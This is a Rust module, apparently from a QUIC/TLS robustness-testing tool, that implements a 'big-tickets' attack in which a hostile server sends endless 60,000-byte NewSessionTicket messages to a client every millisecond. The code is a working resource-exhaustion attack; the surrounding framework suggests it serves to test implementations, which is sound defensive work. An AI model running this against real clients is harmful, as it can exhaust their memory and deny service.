//! Endless session tickets from a server.

use courser_base::Time;
use courser_crypto::Space;
use courser_wire::{Crypto, Frame};

use crate::attack::{Attack, Pace, Plan, Victim};
use crate::attacker::Attacker;
use crate::hooks::Honest;
use crate::{encode, server_tls};

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "big-tickets",
    labels: &["A69"],
    summary: "endless NewSessionTicket messages of 60 000 bytes",
    victim: Victim::Client,
    make: || Box::new(BigTickets::default()),
};

#[derive(Default)]
struct BigTickets {
    offsets: std::collections::BTreeMap<u64, u64>,
}

impl Attack for BigTickets {
    fn start(&mut self, attacker: &mut Attacker) {
        attacker.accept_with(server_tls(b"h3"), || Box::new(Honest));
    }

    fn turn(&mut self, attacker: &mut Attacker, now: Time) -> Pace {
        for key in attacker.keys() {
            let Some(connection) = attacker.connection(key) else {
                continue;
            };
            if connection.is_closed() {
                attacker.forget(key);
                continue;
            }
            if !connection.is_established() {
                continue;
            }
            // These follow the tickets that TLS sends.
            let first = connection.crypto_len(Space::Application);
            let offset = self.offsets.entry(key).or_insert(first);
            let message = ticket();
            for chunk in message.chunks(1000) {
                let frame = encode(&Frame::Crypto(Crypto {
                    offset: *offset,
                    data: chunk,
                }));
                *offset += chunk.len() as u64;
                connection.send_packet(now, Space::Application, vec![frame]);
            }
        }
        Pace::At(now + std::time::Duration::from_millis(1))
    }
}

/// Encodes a NewSessionTicket message (RFC 8446 §4.6.1).
fn ticket() -> Vec<u8> {
    let mut body = Vec::new();
    body.extend_from_slice(&7200_u32.to_be_bytes());
    body.extend_from_slice(&7_u32.to_be_bytes());
    body.extend_from_slice(&[1, 0]);
    let len = u16::try_from(TICKET).expect("fits two bytes");
    body.extend_from_slice(&len.to_be_bytes());
    body.resize(body.len() + TICKET, 0x55);
    body.extend_from_slice(&[0, 0]);
    let len = u32::try_from(body.len()).expect("fits three bytes");
    let [_, high, middle, low] = len.to_be_bytes();
    let mut message = vec![NEW_SESSION_TICKET, high, middle, low];
    message.append(&mut body);
    message
}

const NEW_SESSION_TICKET: u8 = 4;

/// Bytes of one ticket.
const TICKET: usize = 60_000;
